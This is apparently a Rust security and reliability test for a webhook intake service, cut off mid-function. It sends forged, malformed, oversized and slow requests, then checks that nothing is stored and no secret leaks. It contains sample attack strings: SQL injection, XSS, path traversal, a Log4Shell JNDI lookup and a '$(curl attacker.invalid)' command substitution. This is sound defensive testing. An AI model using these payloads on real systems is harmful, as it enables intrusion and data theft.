//! Hostile input and slow clients at the real host, then a search for every secret.
//!
//! - `hostile-input`: 10,000 generated requests (more under `TDS_RELIABILITY_SOAK=1`, from a
//!   seeded generator whose seed is printed) at 24 in flight, mixed with authentic events
//!   while every lane drains: no proof or a wrong one (keys near the real one, the stats
//!   token, unsigned or badly signed bills, a signed body or query tampered with), bodies
//!   intake cannot read, wrong media types, unknown modules and routes (SQL, script and path
//!   injection in the path), wrong methods, operator routes without their token, bodies over
//!   1 MiB with and without a `Content-Length` (a declared 100 MiB with no body is refused at
//!   once, before any body arrives). Each is refused with its documented status
//!   and a JSON error naming the fault, and nothing of them is stored. The authentic events
//!   (shared key in the header or the query, signed bills, ids and fields laden with SQL,
//!   script and path injection) are all applied verbatim, and their replays answer
//!   `200 duplicate` and are stored once.
//! - `slow-clients`: raw TCP clients that drip a request byte by byte, stop in the middle
//!   of the headers or the body (with a `Content-Length` or chunked), half-close before the
//!   body is complete (answered 400 `body_incomplete`), or connect and send nothing. Meanwhile an authentic flood is served
//!   with 2xx at a latency close to the one measured before; the dripped requests are
//!   accepted; no partial body is stored, not even one that would read as complete JSON
//!   (the bodies are padded so that a cut inside the padding still parses).
//! - secrets: afterwards no secret (webhook key, module secret, stats token, the database
//!   password when the URL has one) appears in any table (every row as text, every `bytea`
//!   decoded), in the log (host tracing at debug level and every guest's output), in any
//!   answer body, or in `/metrics`.
//!
//! The only test of this binary: it points the process's stderr at a pipe for its whole run.

mod reliability_support;

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use rand::rngs::StdRng;
use rand::seq::{IndexedRandom, SliceRandom};
use rand::Rng;
use serde_json::{json, Value};
use tds_core::entity::Module;
use tds_core::payload::MAX_BODY_BYTES;
use tds_core::signature::{sign, signed_message};
use tds_tests::capture::LogCapture;
use tds_tests::internal::{drain_until_idle, Via};
use tds_tests::raw_http::{chunk, read_answer, request_head, LAST_CHUNK};
use tds_tests::reliability::{event_key, item, settle, EventKey, Ledger, Retry, Sender, Tally};
use tds_tests::TestApp;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use reliability_support::*;

/// The bills module's own signing secret (bills need a signature; the rest the key).
const MODULE_SECRET: &str = "relBillSecret-Wd6Yc2Gf9Ku";

/// Strings that attack SQL, markup, paths and templates.
const INJECTIONS: [&str; 12] = [
    "'; DROP TABLE tds_inbox_events; --",
    "1' OR '1'='1",
    "\" OR \"\"=\"",
    "Robert'); DELETE FROM erp_items;--",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "${jndi:ldap://attacker.invalid/a}",
    "{{7*7}}",
    "%00%27%22%3Cx%3E",
    "$(curl attacker.invalid)",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn hostile_input_and_slow_clients_store_nothing_unauthentic_and_leak_no_secret() {
    let capture = LogCapture::start_with_tracing(tracing::Level::DEBUG);
    let mut answers = Vec::new();
    let variables = vec![format!("zoho_module_secrets=bills={MODULE_SECRET}")];

    let hostile_app = start(&variables).await;
    hostile_input(&hostile_app, &mut answers).await;
    let slow_app = start(&variables).await;
    slow_clients(&slow_app, &mut answers).await;

    let mut published = String::new();
    for app in [&hostile_app, &slow_app] {
        published.push_str(&metrics(app).await);
        published.push_str(&database_text(&app.db.client().await).await);
    }
    let log = capture.finish();
    assert!(
        published.contains("?key=[redacted]"),
        "the key given in a query was kept redacted"
    );
    assert!(log.contains("[intake] "), "the guests' log was captured");
    assert!(log.contains("DEBUG"), "the host's debug log was captured");
    let answers = answers.join("\n");
    let places = [
        ("a table or /metrics", &published),
        ("the log", &log),
        ("an answer body", &answers),
    ];
    for (name, secret) in secrets(&hostile_app) {
        for (place, text) in places {
            let leak = text.lines().find(|line| line.contains(&secret));
            assert!(
                leak.is_none(),
                "the {name} is in {place}: {:.400}",
                leak.unwrap_or_default()
            );
        }
    }
}

/// Every secret the application knows, by name.
fn secrets(app: &TestApp) -> Vec<(&'static str, String)> {
    let mut all = vec![
        ("webhook key", KEY.to_string()),
        ("module secret", MODULE_SECRET.to_string()),
        ("stats token", TOKEN.to_string()),
    ];
    match database_password(&app.db.url) {
        Some(password) => all.push(("database password", password)),
        None => eprintln!("reliability: the test database URL has no password to look for"),
    }
    all
}

/// The password of a `postgres://user:password@host/db` URL.
fn database_password(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let userinfo = rest.split('/').next()?.rsplit_once('@')?.0;
    let password = userinfo.split_once(':')?.1;
    (!password.is_empty()).then(|| password.to_string())
}

// ---------------------------------------------------------------------------------------
// hostile-input

/// One generated hostile request and the statuses it may be answered with.
struct Probe {
    kind: &'static str,
    method: &'static str,
    path: String,
    headers: Vec<(&'static str, String)>,
    body: Vec<u8>,
    expect: &'static [u16],
}

impl Probe {
    fn new(
        kind: &'static str,
        expect: &'static [u16],
        path: impl Into<String>,
        body: Vec<u8>,
    ) -> Probe {
        Probe {
            kind,
            method: "POST",
            path: path.into(),
            headers: vec![("content-type", "application/json".into())],
            body,
            expect,
        }
    }

    fn header(mut self, name: &'static str, value: impl Into<String>) -> Probe {
        self.headers.retain(|(n, _)| *n != name);
        self.headers.push((name, value.into()));
        self
    }

    fn keyed(self) -> Probe {
        self.header("x-webhook-key", KEY)
    }

    fn method(mut self, method: &'static str) -> Probe {
        self.method = method;
        self
    }
}

/// The kinds of hostile request, each a generator.
const KINDS: [fn(&mut StdRng, usize) -> Probe; 13] = [
    no_proof,
    wrong_key_header,
    wrong_key_query,
    unsigned_bill,
    badly_signed_bill,
    forged_injection,
    unreadable_body,
    wrong_media_type,
    unknown_module,
    dot_segments,
    wrong_method,
    operator_route_without_token,
    unknown_wrapper,
];

/// A module whose webhooks the shared key authenticates (every one but bills).
fn keyed_module(rng: &mut StdRng) -> Module {
    *Module::ALL
        .iter()
        .filter(|m| **m != Module::Bills)
        .collect::<Vec<_>>()
        .choose(rng)
        .copied()
        .unwrap()
}

fn forged_record(module: Module, i: usize) -> Vec<u8> {
    let record = record(module, &format!("forged-{i}"), version(1), 1);
    wrapped(module, &record).to_string().into_bytes()
}

fn no_proof(rng: &mut StdRng, i: usize) -> Probe {
    let module = keyed_module(rng);
    Probe::new("no-proof", &[401], route(module), forged_record(module, i))
}

/// Keys a guesser might try: near the real one, another secret, nothing.
fn wrong_key(rng: &mut StdRng) -> String {
    let guesses = [
        format!("{KEY}x"),
        KEY[..KEY.len() - 1].to_string(),
        KEY.to_lowercase(),
        TOKEN.to_string(),
        MODULE_SECRET.to_string(),
        String::new(),
        (0..20)
            .map(|_| rng.random_range(b'a'..=b'z') as char)
            .collect(),
    ];
    guesses.choose(rng).unwrap().clone()
}

fn wrong_key_header(rng: &mut StdRng, i: usize) -> Probe {
    let module = keyed_module(rng);
    Probe::new(
        "wrong-key-header",
        &[401],
        route(module),
        forged_record(module, i),
    )
    .header("x-webhook-key", wrong_key(rng))
}

fn wrong_key_query(rng: &mut StdRng, i: usize) -> Probe {
    let module = keyed_module(rng);
    let key: String = form_urlencoded::byte_serialize(wrong_key(rng).as_bytes()).collect();
    let path = format!("{}?key={key}", route(module));
    Probe::new("wrong-key-query", &[401], path, forged_record(module, i))
}

/// A bill with the shared key but no signature (bills need one).
fn unsigned_bill(_: &mut StdRng, i: usize) -> Probe {
    Probe::new(
        "unsigned-bill",
        &[401],
        route(Module::Bills),
        forged_record(Module::Bills, i),
    )
    .keyed()
}

/// A bill whose signature does not prove it: another secret, another body, a query added
/// after signing, a cut signature, random hex.
fn badly_signed_bill(rng: &mut StdRng, i: usize) -> Probe {
    let body = forged_record(Module::Bills, i);
    let genuine = sign(MODULE_SECRET, &signed_message(&[], &[], Some(&body)));
    let mut tampered: Value = serde_json::from_slice(&body).unwrap();
    tampered["bill"]["total"] = json!(999_999);
    let (path, body, signature) = match rng.random_range(0..5) {
        0 => (
            route(Module::Bills),
            body.clone(),
            sign(KEY, &signed_message(&[], &[], Some(&body))),
        ),
        1 => (
            route(Module::Bills),
            tampered.to_string().into_bytes(),
            genuine,
        ),
        2 => (
            format!("{}?operation=delete", route(Module::Bills)),
            body,
            genuine,
        ),
        3 => (
            route(Module::Bills),
            body,
            genuine[..genuine.len() - 2].to_string(),
        ),
        _ => (
            route(Module::Bills),
            body,
            hex::encode(rng.random::<[u8; 32]>()),
        ),
    };
    Probe::new("badly-signed-bill", &[401], path, body)
        .header("x-zoho-webhook-signature", signature)
}

/// A record full of injection, without a valid key.
fn forged_injection(rng: &mut StdRng, _: usize) -> Probe {
    let module = keyed_module(rng);
    let mut record = record(module, INJECTIONS.choose(rng).unwrap(), version(1), 1);
    for field in ["name", "reference_number", "notes", "description"] {
        record[field] = json!(INJECTIONS.choose(rng).unwrap());
    }
    let body = wrapped(module, &record).to_string().into_bytes();
    Probe::new("forged-injection", &[401], route(module), body)
        .header("x-webhook-key", INJECTIONS.choose(rng).unwrap().to_string())
        .header("x-request-id", INJECTIONS.choose(rng).unwrap().to_string())
}

/// With the key, a body intake cannot read: cut JSON, invalid UTF-8, a JSON value that is
/// not an object, trailing garbage, deep nesting, bytes, a record-carrying form field that
/// is not JSON. None of these reads as a record, so none can be stored (a form without a
/// record-carrying field would: its flat fields are a record).
fn unreadable_body(rng: &mut StdRng, i: usize) -> Probe {
    let module = keyed_module(rng);
    let whole = forged_record(module, i);
    let (content_type, body): (&str, Vec<u8>) = match rng.random_range(0..8) {
        0 => (
            "application/json",
            whole[..rng.random_range(1..whole.len())].to_vec(),
        ),
        1 => {
            let mut body = whole.clone();
            let at = body.iter().position(|b| *b == b'"').unwrap() + 1;
            body.insert(at, 0xff);
            ("application/json", body)
        }
        2 => {
            let values = ["[]", "null", "42", "\"item\"", "true", "[{\"item\": {}}]"];
            (
                "application/json",
                values.choose(rng).unwrap().as_bytes().to_vec(),
            )
        }
        3 => ("application/json", [whole.as_slice(), b"}x"].concat()),
        4 => {
            let depth = rng.random_range(200..2000);
            (
                "application/json",
                format!("{}{}", "[".repeat(depth), "]".repeat(depth)).into_bytes(),
            )
        }
        5 => {
            let mut bytes = vec![0xff];
            bytes.extend((0..rng.random_range(0..512)).map(|_| rng.random::<u8>()));
            ("application/json", bytes)
        }
        6 => (
            "application/x-www-form-urlencoded",
            b"JSONString=%7B%22item%22%3A%7B".to_vec(),
        ),
        _ => (
            "application/x-www-form-urlencoded",
            format!("{}=not-json", module.spec().wrapper_keys[0]).into_bytes(),
        ),
    };
    Probe::new("unreadable-body", &[400], route(module), body)
        .header("content-type", content_type)
        .keyed()
}

fn wrong_media_type(rng: &mut StdRng, i: usize) -> Probe {
    let module = keyed_module(rng);
    let content_type = *[
        "text/plain",
        "application/xml",
        "multipart/form-data; boundary=x",
        "image/png",
    ]
    .choose(rng)
    .unwrap();
    Probe::new(
        "wrong-media-type",
        &[415],
        route(module),
        forged_record(module, i),
    )
    .header("content-type", content_type)
    .keyed()
}

/// With the key, a module segment TDS does not sync: unknown names, injection, encoded
/// slashes and NULs.
fn unknown_module(rng: &mut StdRng, i: usize) -> Probe {
    let segments = [
        "widgets",
        "expenses",
        "items'%20OR%20'1'='1",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "items%00",
        "..%2f..%2finternal%2fheal",
        "items;DROP%20TABLE%20erp_items",
        "%E2%80%AEsmeti",
    ];
    let path = format!("/webhooks/zoho/{}", segments.choose(rng).unwrap());
    Probe::new(
        "unknown-module",
        &[404],
        path,
        forged_record(Module::Items, i),
    )
    .keyed()
}

/// Without a key (a client normalises dot segments, which may land on a real route), paths
/// that climb out of the intake route.
fn dot_segments(rng: &mut StdRng, i: usize) -> Probe {
    let paths = [
        "/webhooks/zoho/../../internal/heal",
        "/webhooks/zoho/%2e%2e/%2e%2e/internal/drain/sales",
        "/webhooks/zoho/items/../../../api/config",
        "/webhooks/zoho/./items/./../invoices/extra",
        "/webhooks/zoho/items/extra/segments",
    ];
    Probe::new(
        "dot-segments",
        &[401, 404, 405],
        *paths.choose(rng).unwrap(),
        forged_record(Module::Items, i),
    )
}

/// With the key, a method the route does not allow.
fn wrong_method(rng: &mut StdRng, i: usize) -> Probe {
    let (method, path) = *[
        ("GET", "/webhooks/zoho/items"),
        ("PATCH", "/webhooks/zoho/invoices"),
        ("OPTIONS", "/webhooks/zoho/contacts"),
        ("HEAD", "/webhooks/zoho/items"),
        ("PUT", "/webhooks/zoho"),
        ("DELETE", "/webhooks/zoho"),
    ]
    .choose(rng)
    .unwrap();
    Probe::new(
        "wrong-method",
        &[405],
        path,
        forged_record(Module::Items, i),
    )
    .method(method)
    .keyed()
}

/// Operator routes with no token, a wrong one, the webhook key, or the right token under
/// the wrong scheme.
fn operator_route_without_token(rng: &mut StdRng, _: usize) -> Probe {
    let (method, path) = *[
        ("POST", "/internal/drain/sales"),
        ("POST", "/internal/heal"),
        ("POST", "/internal/reconcile"),
        ("GET", "/metrics"),
        ("GET", "/api/dead-letters"),
        ("POST", "/api/dead-letters/replay"),
        ("POST", "/api/replay"),
        ("POST", "/api/circuits/lane:sales/reset"),
        ("GET", "/api/trace?correlation_id=%27%20OR%201%3D1"),
    ]
    .choose(rng)
    .unwrap();
    let authorization = [
        None,
        Some(format!("Bearer {TOKEN}x")),
        Some(format!("Bearer {KEY}")),
        Some(format!("Basic {TOKEN}")),
        Some(format!("Bearer {}", INJECTIONS.choose(rng).unwrap())),
    ]
    .choose(rng)
    .unwrap()
    .clone();
    let probe =
        Probe::new("operator-route-without-token", &[401], path, b"{}".to_vec()).method(method);
    match authorization {
        Some(value) => probe.header("authorization", value),
        None => probe,
    }
}

/// With the key, on the bare route, a body naming no module TDS syncs.
fn unknown_wrapper(rng: &mut StdRng, i: usize) -> Probe {
    let record = record(Module::Items, &format!("wrapper-{i}"), version(1), 1);
    let body = match rng.random_range(0..4) {
        0 => json!({"widget": record}),
        1 => json!({"expense": record}),
        2 => json!({"item": record, "invoice": record}),
        _ => json!({"nothing": 1}),
    };
    Probe::new(
        "unknown-wrapper",
        &[400, 404],
        "/webhooks/zoho",
        body.to_string().into_bytes(),
    )
    .keyed()
}

/// With the key, an item over 1 MiB, sent with its `Content-Length`.
fn oversized(i: usize) -> Probe {
    Probe::new("oversized", &[413], route(Module::Items), oversized_item(i)).keyed()
}

/// A wrapped item whose description takes it past [`MAX_BODY_BYTES`].
fn oversized_item(i: usize) -> Vec<u8> {
    let mut record = record(Module::Items, &format!("oversized-{i}"), version(1), 1);
    record["description"] = json!("x".repeat(MAX_BODY_BYTES + 1 + i * 4096));
    wrapped(Module::Items, &record).to_string().into_bytes()
}

/// `count` hostile requests drawn from `rng`, with four oversized ones among them.
fn generate(rng: &mut StdRng, count: usize) -> Vec<Probe> {
    let mut probes: Vec<Probe> = (0..count - 4)
        .map(|i| KINDS.choose(rng).unwrap()(rng, i))
        .collect();
    probes.extend((0..4).map(oversized));
    probes.shuffle(rng);
    probes
}

/// Sends `probe`; what went wrong with its answer, if anything.
async fn send_probe(app: &TestApp, probe: &Probe, answers: &Mutex<Vec<String>>) -> Option<String> {
    let method = reqwest::Method::from_bytes(probe.method.as_bytes()).unwrap();
    let mut request = app
        .client
        .request(method, app.url(&probe.path))
        .body(probe.body.clone());
    for (name, value) in &probe.headers {
        request = request.header(*name, value);
    }
    let (status, body) = match request.send().await {
        Ok(response) => (
            response.status().as_u16(),
            response.text().await.unwrap_or_default(),
        ),
        Err(e) => {
            return Some(format!(
                "{} {} {}: no answer: {e}",
                probe.kind, probe.method, probe.path
            ))
        }
    };
    let named = error_code(&body);
    answers.lock().unwrap().push(body);
    if !probe.expect.contains(&status) {
        return Some(format!(
            "{} {} {}: {status} {named}",
            probe.kind, probe.method, probe.path
        ));
    }
    (probe.method != "HEAD" && named.is_empty()).then(|| {
        format!(
            "{} {} {}: {status} without a JSON error",
            probe.kind, probe.method, probe.path
        )
    })
}

/// How an authentic event proves itself.
#[derive(Clone, Copy)]
enum Proof {
    KeyHeader,
    KeyQuery,
    /// Bills, signed with [`MODULE_SECRET`].
    Signature,
}

/// An authentic event of the hostile flood.
struct Authentic {
    module: Module,
    body: String,
    proof: Proof,
    key: EventKey,
}

impl Authentic {
    /// The `i`th: a signed bill, a record whose id and fields carry injection, one with the
    /// key in the query, or a plain one.
    fn new(rng: &mut StdRng, i: usize) -> Authentic {
        let (module, proof) = match i % 4 {
            0 => (Module::Bills, Proof::Signature),
            2 => (keyed_module(rng), Proof::KeyQuery),
            _ => (keyed_module(rng), Proof::KeyHeader),
        };
        let id = match i % 4 {
            1 => format!("{}#{i}", INJECTIONS[i % INJECTIONS.len()]),
            _ => format!("authentic-{i}"),
        };
        let mut record = record(module, &id, version(1), 1);
        if i % 4 == 1 {
            record["reference_number"] = json!(INJECTIONS[(i + 1) % INJECTIONS.len()]);
            record["notes"] = json!(INJECTIONS[(i + 2) % INJECTIONS.len()]);
        }
        Authentic {
            module,
            body: wrapped(module, &record).to_string(),
            proof,
            key: event_key(module, &record),
        }
    }

    fn request(&self, app: &TestApp) -> reqwest::RequestBuilder {
        let path = match self.proof {
            Proof::KeyQuery => format!("{}?key={KEY}", route(self.module)),
            _ => route(self.module),
        };
        let request = app
            .client
            .post(app.url(&path))
            .header("content-type", "application/json")
            .body(self.body.clone());
        match self.proof {
            Proof::KeyHeader => request.header("x-webhook-key", KEY),
            Proof::KeyQuery => request,
            Proof::Signature => {
                let message = signed_message(&[], &[], Some(self.body.as_bytes()));
                request.header("x-zoho-webhook-signature", sign(MODULE_SECRET, &message))
            }
        }
    }
}

/// One request of a flood: hostile, or authentic (a first delivery or a replay).
enum Send<'a> {
    Hostile(&'a Probe),
    First(&'a Authentic),
    Replay(&'a Authentic),
}

async fn send<'a>(
    app: &TestApp,
    ledger: &Ledger,
    send: Send<'a>,
    answers: &Mutex<Vec<String>>,
) -> Option<String> {
    let (authentic, expected) = match send {
        Send::Hostile(probe) => return send_probe(app, probe, answers).await,
        Send::First(authentic) => (authentic, 202),
        Send::Replay(authentic) => (authentic, 200),
    };
    let (status, body) = deliver(ledger, &authentic.key, authentic.request(app)).await;
    let duplicate = serde_json::from_str::<Value>(&body)
        .is_ok_and(|b| b["duplicate"] == json!(expected == 200));
    answers.lock().unwrap().push(body.clone());
    (status != expected || !duplicate)
        .then(|| format!("authentic {:?}: {status} {body}", authentic.key))
}

/// Sends `sends` at [`CONCURRENCY`] in flight; every problem found.
async fn flood<'a>(
    app: &TestApp,
    ledger: &Ledger,
    sends: Vec<Send<'a>>,
    answers: &Mutex<Vec<String>>,
) -> Vec<String> {
    bounded(
        sends.into_iter().map(|s| send(app, ledger, s, answers)),
        CONCURRENCY,
    )
    .await
    .into_iter()
    .flatten()
    .collect()
}

/// Oversized bodies streamed in chunks, without a `Content-Length`, over raw TCP: intake
/// reads such a body to its end before refusing it, so the whole body is sent and the 413
/// arrives intact (closing while it was still being sent could lose the answer).
async fn oversized_chunked(app: &TestApp, answers: &Mutex<Vec<String>>) -> Vec<String> {
    let mut problems = Vec::new();
    for i in 0..3 {
        let body = oversized_item(100 + i);
        let mut stream = TcpStream::connect(app.address).await.expect("connecting");
        let head = request_head(
            "POST",
            &route(Module::Items),
            &[("x-webhook-key", KEY), ("transfer-encoding", "chunked")],
        );
        stream.write_all(&head).await.unwrap();
        let pieces = body.chunks(64 * 1024).map(chunk).chain([LAST_CHUNK.to_vec()]);
        let mut sent = Ok(());
        for piece in pieces {
            sent = stream.write_all(&piece).await;
            if sent.is_err() {
                break;
            }
        }
        if let Err(e) = sent {
            problems.push(format!("the host stopped reading an oversized chunked body: {e}"));
        }
        let answer = read_answer(&mut stream, PATIENCE).await;
        if !matches!(&answer, Some((413, _))) {
            problems.push(format!("oversized chunked body answered {answer:?}"));
        }
        answers.lock().unwrap().extend(answer.map(|(_, text)| text));
    }
    problems
}

/// A head declaring a 100 MiB body, and no body: 413 at once, before any of it is read.
async fn oversized_declared(app: &TestApp, answers: &Mutex<Vec<String>>) -> Vec<String> {
    let mut stream = TcpStream::connect(app.address).await.expect("connecting");
    let head = request_head(
        "POST",
        &route(Module::Items),
        &[
            ("content-type", "application/json"),
            ("x-webhook-key", KEY),
            ("content-length", "104857600"),
        ],
    );
    stream.write_all(&head).await.unwrap();
    let answer = read_answer(&mut stream, Duration::from_secs(5)).await;
    let problems = match &answer {
        Some((413, text)) if text.contains("\"payload_too_large\"") => Vec::new(),
        other => vec![format!("a declared 100 MiB body was answered {other:?} within 5 s")],
    };
    answers.lock().unwrap().extend(answer.map(|(_, text)| text));
    problems
}

async fn hostile_input(app: &TestApp, all_answers: &mut Vec<String>) {
    let db = app.db.client().await;
    quick_retries(&db).await;
    let mut rng = seeded("hostile-input", 0x00d5_0004);
    let probes = generate(&mut rng, scaled(10_000, 50_000));
    let authentic: Vec<Authentic> = (0..scaled(240, 2400))
        .map(|i| Authentic::new(&mut rng, i))
        .collect();
    let (first_half, second_half) = probes.split_at(probes.len() / 2);
    let mut first: Vec<Send> = first_half.iter().map(Send::Hostile).collect();
    first.extend(authentic.iter().map(Send::First));
    first.shuffle(&mut rng);
    let mut second: Vec<Send> = second_half.iter().map(Send::Hostile).collect();
    second.extend(authentic.iter().map(Send::Replay));
    second.shuffle(&mut rng);
    let (ledger, answers) = (Ledger::new(), Mutex::new(Vec::new()));

    let started = Instant::now();
    let drains = BackgroundDrains::start(app);
    let mut problems = flood(app, &ledger, first, &answers).await;
    problems.extend(flood(app, &ledger, second, &answers).await);
    problems.extend(oversized_chunked(app, &answers).await);
    problems.extend(oversized_declared(app, &answers).await);
    drains.stop().await;
    drain_until_idle(app, Via::Route(TOKEN), PATIENCE).await;
    eprintln!(
        "reliability: hostile-input: {} hostile and {} authentic requests in {:?}; by kind: {:?}",
        probes.len() + 3,
        ledger.deliveries(),
        started.elapsed(),
        kinds(&probes)
    );

    assert!(
        problems.is_empty(),
        "{} answers were wrong, e.g.:\n{}",
        problems.len(),
        problems[..problems.len().min(20)].join("\n")
    );
    let mut tally = settle("hostile-input", &db, &ledger).await;
    tally.requests = (probes.len() + 3) as u64 + ledger.deliveries();
    tally.record();
    tally.assert_holds();
    let n = authentic.len() as u64;
    assert_eq!(
        (
            tally.events,
            tally.accepted,
            tally.applied,
            tally.dead_lettered
        ),
        (n, n, n, 0),
        "{tally:#?}"
    );
    assert_eq!(
        scalar(&db, "SELECT count(*) FROM tds_inbox_events").await,
        n as i64,
        "each replay stored once"
    );
    all_answers.extend(answers.into_inner().unwrap());
}

/// How many probes of each kind.
fn kinds(probes: &[Probe]) -> BTreeMap<&'static str, usize> {
    let mut counts = BTreeMap::new();
    for probe in probes {
        *counts.entry(probe.kind).or_default() += 1;
    }
    counts
}

// ---------------------------------------------------------------------------------------
// slow-clients

/// An authentic item's wrapped JSON followed by `padding` spaces: any cut inside the
/// padding still reads as a complete record.
fn padded_item(id: &str, padding: usize) -> (Vec<u8>, usize) {
    let json = wrapped(Module::Items, &item(id, "Padded", 1.0, version(1))).to_string();
    let length = json.len();
    (
        [json.as_bytes(), " ".repeat(padding).as_bytes()].concat(),
        length,
    )
}

/// A head for `body` to the items route with the key and its `Content-Length`.
fn keyed_head(body: &[u8]) -> Vec<u8> {
    let length = body.len().to_string();
    request_head(
        "POST",
        &route(Module::Items),
        &[
            ("content-type", "application/json"),
            ("x-webhook-key", KEY),
            ("content-length", &length),
        ],
    )
}

/// Connections held open until the scenario ends.
type Held = Vec<TcpStream>;

/// Sends the head and the record but only half its padding, then stops.
async fn stall_mid_body(address: std::net::SocketAddr, id: &str) -> TcpStream {
    let (body, length) = padded_item(id, 4096);
    let mut stream = TcpStream::connect(address).await.expect("connecting");
    stream.write_all(&keyed_head(&body)).await.unwrap();
    stream.write_all(&body[..length + 2048]).await.unwrap();
    stream
}

/// Sends a chunked head and one chunk holding the whole record, never the last chunk.
async fn stall_mid_chunks(address: std::net::SocketAddr, id: &str) -> TcpStream {
    let (body, _) = padded_item(id, 0);
    let mut stream = TcpStream::connect(address).await.expect("connecting");
    let head = request_head(
        "POST",
        &route(Module::Items),
        &[
            ("content-type", "application/json"),
            ("x-webhook-key", KEY),
            ("transfer-encoding", "chunked"),
        ],
    );
    stream.write_all(&head).await.unwrap();
    stream.write_all(&chunk(&body)).await.unwrap();
    stream
}

/// Sends half of the head, then stops.
async fn stall_mid_head(address: std::net::SocketAddr, id: &str) -> TcpStream {
    let (body, _) = padded_item(id, 0);
    let head = keyed_head(&body);
    let mut stream = TcpStream::connect(address).await.expect("connecting");
    stream.write_all(&head[..head.len() / 2]).await.unwrap();
    stream
}

/// Shuts a held connection's side down and waits (up to 30 s) until the host closes its
/// own: the host is done with the request the connection carried, whatever became of it.
async fn hang_up(mut stream: TcpStream) {
    let _ = stream.shutdown().await;
    let _ = read_answer(&mut stream, Duration::from_secs(30)).await;
}

/// Sends the head and the record with half its padding (`chunked`: as one chunk without
/// the last), shuts its side down and reads whatever answer comes.
async fn half_close(
    address: std::net::SocketAddr,
    id: String,
    chunked: bool,
) -> Option<(u16, String)> {
    let mut stream = match chunked {
        true => stall_mid_chunks(address, &id).await,
        false => stall_mid_body(address, &id).await,
    };
    stream.shutdown().await.unwrap();
    read_answer(&mut stream, Duration::from_secs(30)).await
}

/// Sends an authentic item one byte at a time (the head) and in small pieces (the body),
/// pausing between writes; the answer's status.
async fn drip(address: std::net::SocketAddr, ledger: &Ledger, id: &str) -> Option<(u16, String)> {
    let record = item(id, "Dripped", 2.0, version(1));
    let key = event_key(Module::Items, &record);
    let body = wrapped(Module::Items, &record).to_string().into_bytes();
    let head = keyed_head(&body);
    ledger.sent(&key);
    let mut stream = TcpStream::connect(address).await.expect("connecting");
    for piece in head.chunks(1).chain(body.chunks(16)) {
        stream.write_all(piece).await.unwrap();
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let answer = read_answer(&mut stream, PATIENCE).await;
    ledger.answered(&key, answer.as_ref().map_or(0, |(status, _)| *status));
    answer
}

/// Authentic items sent at 8 in flight; each one's latency (every one must be accepted).
async fn timed_flood(app: &TestApp, ledger: &Ledger, prefix: &str, count: usize) -> Vec<Duration> {
    let sender = Sender::new(app.url(""), KEY);
    bounded(
        (0..count).map(|i| {
            let (sender, record) = (
                &sender,
                item(&format!("{prefix}-{i}"), "Flood", 3.0, version(1)),
            );
            async move {
                let started = Instant::now();
                let status = sender
                    .deliver(ledger, Module::Items, &record, Retry::Never)
                    .await;
                assert_eq!(
                    status, 202,
                    "{prefix}-{i} while slow clients hold connections"
                );
                started.elapsed()
            }
        }),
        8,
    )
    .await
}

/// The slow and broken clients, started at once; the connections they hold and the tasks
/// that end by themselves (drips and half-closes).
struct SlowClients {
    held: Held,
    drips: Vec<tokio::task::JoinHandle<Option<(u16, String)>>>,
    half_closed: Vec<tokio::task::JoinHandle<Option<(u16, String)>>>,
}

impl SlowClients {
    /// Connections whose requests the ledger does not know (all but the drips).
    fn unrecorded(&self) -> u64 {
        (self.held.len() + self.half_closed.len()) as u64
    }
}

async fn start_slow_clients(app: &TestApp, ledger: &Arc<Ledger>) -> SlowClients {
    let address = app.address;
    let n = scaled(8, 32);
    let mut held = Vec::new();
    for i in 0..2 * n {
        held.push(stall_mid_body(address, &format!("stalled-body-{i}")).await);
    }
    for i in 0..n {
        held.push(stall_mid_chunks(address, &format!("stalled-chunks-{i}")).await);
        held.push(stall_mid_head(address, &format!("stalled-head-{i}")).await);
    }
    for _ in 0..4 * n {
        held.push(TcpStream::connect(address).await.expect("connecting"));
    }
    let drips = (0..n)
        .map(|i| {
            let ledger = ledger.clone();
            tokio::spawn(async move { drip(address, &ledger, &format!("dripped-{i}")).await })
        })
        .collect();
    let half_closed = (0..2 * n)
        .map(|i| tokio::spawn(half_close(address, format!("half-closed-{i}"), i % 2 == 1)))
        .collect();
    SlowClients {
        held,
        drips,
        half_closed,
    }
}

async fn slow_clients(app: &TestApp, all_answers: &mut Vec<String>) {
    let db = app.db.client().await;
    quick_retries(&db).await;
    let ledger = Arc::new(Ledger::new());
    let mut before = timed_flood(app, &ledger, "before", 100).await;

    let clients = start_slow_clients(app, &ledger).await;
    let mut during = timed_flood(app, &ledger, "during", scaled(300, 3000)).await;
    let (p95_before, p95_during) = (p95(&mut before), p95(&mut during));
    let unrecorded = clients.unrecorded();
    eprintln!(
        "reliability: slow-clients: {} slow or broken connections; authentic p95 {p95_before:?} before, {p95_during:?} while they hang on",
        unrecorded as usize + clients.drips.len()
    );
    let mut answers = Vec::new();
    for drip in clients.drips {
        let answer = drip.await.expect("a dripping client");
        assert_eq!(
            answer.as_ref().map(|a| a.0),
            Some(202),
            "a dripped request is accepted: {answer:?}"
        );
        answers.extend(answer.map(|a| a.1));
    }
    let mut half_closed_answers: BTreeMap<String, usize> = BTreeMap::new();
    for half_closed in clients.half_closed {
        let answer = half_closed.await.expect("a half-closing client");
        assert!(
            answer
                .as_ref()
                .is_some_and(|(status, text)| *status == 400 && text.contains("\"body_incomplete\"")),
            "an incomplete body is answered 400 body_incomplete in JSON: {answer:?}"
        );
        let status = answer.as_ref().map_or("none".into(), |a| a.0.to_string());
        *half_closed_answers.entry(status).or_default() += 1;
        answers.extend(answer.map(|a| a.1));
    }
    eprintln!("reliability: slow-clients: half-closed requests answered {half_closed_answers:?}");
    // The held connections hang up; once the host has closed each one, it is done with
    // whatever they carried, before the queue is drained and counted.
    futures::future::join_all(clients.held.into_iter().map(hang_up)).await;
    drain_until_idle(app, Via::Route(TOKEN), PATIENCE).await;

    assert!(
        p95_during <= p95_before * 5 + Duration::from_millis(250),
        "slow clients slowed the others down: p95 {p95_during:?}, was {p95_before:?}"
    );
    let mut tally: Tally = settle("slow-clients", &db, &ledger).await;
    tally.requests = ledger.deliveries() + unrecorded;
    tally.record();
    tally.assert_holds();
